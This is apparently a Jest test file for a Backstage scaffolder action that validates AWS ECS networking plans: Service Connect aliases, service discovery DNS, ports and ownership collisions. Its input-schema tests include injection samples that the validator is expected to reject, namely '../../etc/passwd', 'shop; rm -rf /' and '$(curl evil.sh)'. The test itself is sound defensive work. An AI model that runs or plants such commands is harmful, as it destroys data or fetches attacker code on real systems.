import { createMockActionContext } from '@backstage/plugin-scaffolder-node-test-utils';
import { demoLikeNetwork, staticSource } from '../__testUtils__/fixtures';
import { createValidateAction } from './validate';

const base = {
  mode: 'service-connect',
  accountId: '111111111111',
  region: 'eu-west-1',
  cluster: 'shop',
  serviceName: 'checkout',
  container: { name: 'checkout', port: 8080, portName: 'http' },
  serviceConnect: { clientAlias: { dnsName: 'checkout', port: 8080 } },
  tags: { owner: 'team-orders', component: 'checkout' },
};

async function run(
  input: Record<string, unknown>,
  options: { isDryRun?: boolean } = {},
) {
  const source = staticSource();
  const action = createValidateAction({ source });
  const ctx = createMockActionContext({ input: input as any, ...options });
  const outputs: Record<string, unknown> = {};
  (ctx.output as jest.Mock).mockImplementation(
    (name: string, value: unknown) => {
      outputs[name] = value;
    },
  );
  const error = await action.handler(ctx).then(
    () => undefined,
    (e: Error) => e,
  );
  return { outputs, error, source };
}

describe('ecs-networking:validate', () => {
  it('outputs the resolved values of a correct plan', async () => {
    const { outputs, error } = await run({
      ...base,
      dependencies: ['order-service:8080', 'http://mysql.app'],
    });
    expect(error).toBeUndefined();
    expect(outputs).toMatchObject({
      serviceArn: 'arn:aws:ecs:eu-west-1:111111111111:service/shop/checkout',
      namespaceName: 'sc.local',
      namespaceType: 'HTTP',
      namespaceFromCluster: true,
      namespaceArn:
        'arn:aws:servicediscovery:eu-west-1:111111111111:namespace/ns-sc-local',
      // No discoveryName given: ECS registers the port name.
      discoveryName: 'http',
      clientAlias: 'checkout:8080',
      endpoints: ['checkout:8080'],
      environment: [
        { name: 'ORDER_SERVICE_URL', value: 'http://order-service:8080' },
        { name: 'MYSQL_URL', value: 'http://mysql.app' },
      ],
    });
    expect(outputs.dependencies).toEqual([
      expect.objectContaining({
        resolved: 'order-service:8080',
        owner: 'team-orders',
        service: 'shop/order-service',
      }),
      expect.objectContaining({
        resolved: 'mysql.app',
        owner: 'team-web',
        service: 'web/mysql',
      }),
    ]);
  });

  it('runs in dry-run too, reading live state once', async () => {
    const action = createValidateAction({ source: staticSource() });
    expect(action.supportsDryRun).toBe(true);
    const { error, source } = await run(base, { isDryRun: true });
    expect(error).toBeUndefined();
    expect(source.loads).toBe(1);
  });

  it('fails with one message listing every problem, with owners', async () => {
    const { error } = await run({
      ...base,
      container: { name: 'checkout', port: 8080, portName: 'http' },
      serviceConnect: {
        portName: 'web',
        discoveryName: 'order-service',
        clientAlias: { dnsName: 'user-service', port: 8080 },
      },
    });
    expect(error?.name).toBe('InputError');
    const message = error!.message;
    expect(message).toMatch(
      /^The planned ECS service "checkout" \(account 111111111111, eu-west-1, cluster shop\) has 3 problems to fix:/,
    );
    expect(message).toContain('[service-connect-port-name]');
    expect(message).toContain('[duplicate-client-alias]');
    expect(message).toContain('shop/user-service is owned by team-identity');
    expect(message).toContain('[duplicate-discovery-name]');
    expect(message).toContain('shop/order-service is owned by team-orders');
  });

  it('warns without failing, unless failOnWarnings', async () => {
    const sd = {
      ...base,
      mode: 'service-discovery',
      serviceConnect: undefined,
      serviceDiscovery: {
        namespace: 'app',
        name: 'checkout',
        recordType: 'A',
        ttl: 120,
      },
    };
    const relaxed = await run(sd);
    expect(relaxed.error).toBeUndefined();
    expect(relaxed.outputs.warnings).toEqual([
      expect.stringContaining('[dns-ttl-too-high]'),
    ]);
    expect(relaxed.outputs.serviceDiscoveryName).toBe('checkout.app');
    expect(relaxed.outputs.serviceDiscoveryNamespaceId).toBe('ns-app');

    const strict = await run({ ...sd, failOnWarnings: true });
    expect(strict.error?.message).toContain('dns-ttl-too-high');
  });

  it('says which settings a mode needs', async () => {
    const { error } = await run({ ...base, mode: 'both' });
    expect(error?.message).toContain(
      'Mode both needs serviceDiscovery settings',
    );
  });

  it('uses SRV with the container port for bridge mode', async () => {
    const { error, outputs } = await run({
      ...base,
      mode: 'service-discovery',
      cluster: 'web',
      networkMode: 'bridge',
      serviceConnect: undefined,
      serviceDiscovery: {
        namespace: 'app',
        name: 'checkout',
        recordType: 'SRV',
      },
    });
    expect(error).toBeUndefined();
    expect(outputs.endpoints).toEqual(['checkout.app']);
    const aRecords = await run({
      ...base,
      mode: 'service-discovery',
      cluster: 'web',
      networkMode: 'bridge',
      serviceConnect: undefined,
      serviceDiscovery: { namespace: 'app', name: 'checkout', recordType: 'A' },
    });
    expect(aRecords.error?.message).toContain('[dns-a-record-network-mode]');
  });

  it('checks an unset discovery name falls back to a valid DNS label', async () => {
    const { error } = await run({
      ...base,
      container: { name: 'checkout', port: 8080, portName: 'http_api' },
      serviceConnect: { clientAlias: { dnsName: 'checkout', port: 8080 } },
    });
    expect(error?.message).toContain('[discovery-name-syntax]');
    expect(error?.message).toContain('"http_api"');
  });

  describe('input schema', () => {
    it.each([
      [
        'path traversal',
        { serviceName: '../../etc/passwd' },
        'serviceName: must be 1-255 characters of letters, digits, "-" and "_"',
      ],
      [
        'shell metacharacters',
        { cluster: 'shop; rm -rf /' },
        'cluster: must be 1-255 characters',
      ],
      [
        'command substitution',
        { dependencies: ['$(curl evil.sh)'] },
        'dependencies.0: must be an endpoint name',
      ],
      [
        'an over-long name',
        { serviceName: 'a'.repeat(256) },
        'serviceName: must be 1-255 characters of letters, digits, "-" and "_" (the ECS rule for cluster, service and container names); "/", ".", spaces and shell characters are not allowed (at most 255 characters)',
      ],
      [
        'an over-long DNS label',
        {
          serviceConnect: {
            discoveryName: 'a'.repeat(64),
            clientAlias: { dnsName: 'checkout', port: 8080 },
          },
        },
        'serviceConnect.discoveryName',
      ],
      [
        'a DNS name with an underscore',
        {
          serviceConnect: { clientAlias: { dnsName: 'check_out', port: 8080 } },
        },
        'serviceConnect.clientAlias.dnsName: must be a DNS name (RFC 1123)',
      ],
      [
        'a port out of range',
        { container: { name: 'checkout', port: 70000, portName: 'http' } },
        'container.port: must be a port between 1 and 65535',
      ],
      [
        'a bad account',
        { accountId: '1234' },
        'accountId: must be a 12-digit AWS account id',
      ],
    ])('rejects %s with a clear message', async (_what, override, expected) => {
      const { error, source } = await run({ ...base, ...override });
      expect(error?.name).toBe('InputError');
      expect(error?.message).toContain(
        'Invalid input for ecs-networking:validate',
      );
      expect(error?.message).toContain(expected);
      // Nothing was read: input is checked first.
      expect(source.loads).toBe(0);
    });

    it('publishes the same rules as JSON Schema for the scaffolder to check', () => {
      const action = createValidateAction({ source: staticSource() });
      const schema = action.schema?.input as any;
      expect(schema.properties.serviceName).toMatchObject({
        maxLength: 255,
        pattern: '^[A-Za-z0-9_-]{1,255}$',
      });
      expect(schema.properties.mode.enum).toEqual([
        'service-connect',
        'service-discovery',
        'both',
      ]);
      expect(schema.required).toEqual(
        expect.arrayContaining([
          'mode',
          'accountId',
          'region',
          'cluster',
          'serviceName',
          'container',
        ]),
      );
      const pattern = new RegExp(
        schema.properties.serviceConnect.properties.clientAlias.properties.dnsName.pattern,
      );
      expect(pattern.test('order-service')).toBe(true);
      expect(pattern.test('../etc')).toBe(false);
    });
  });

  it('fails a colliding plan as bad input: every problem once, in the error only, without a stack trace', async () => {
    const action = createValidateAction({ source: staticSource() });
    const ctx = createMockActionContext({
      input: {
        ...base,
        serviceName: 'user-service',
        serviceConnect: {
          discoveryName: 'user-service',
          clientAlias: { dnsName: 'user-service', port: 8080 },
        },
      } as any,
    });
    const logged = jest.spyOn(ctx.logger, 'error');
    const error: Error = await action.handler(ctx).then(
      () => {
        throw new Error('expected the plan to fail');
      },
      e => e,
    );
    expect(error.name).toBe('InputError');
    expect(error.stack).toBe(`InputError: ${error.message}`);
    const numbered = error.message
      .split('\n')
      .filter(l => /^ {2}\d+\. /.test(l));
    expect(numbered).toHaveLength(3);
    expect(new Set(numbered).size).toBe(3);
    expect(error.message).toContain(
      'also claimed by shop/user-service, so callers may reach either service. Owner: shop/user-service is owned by team-identity.',
    );
    expect(logged).not.toHaveBeenCalled();
  });

  it('reports live state it cannot check against', async () => {
    const action = createValidateAction({
      source: { load: async () => ({ ...demoLikeNetwork(), generation: 0 }) },
    });
    const ctx = createMockActionContext({ input: base as any });
    await expect(action.handler(ctx)).rejects.toThrow(
      /has not finished its first read of AWS/,
    );
  });
});
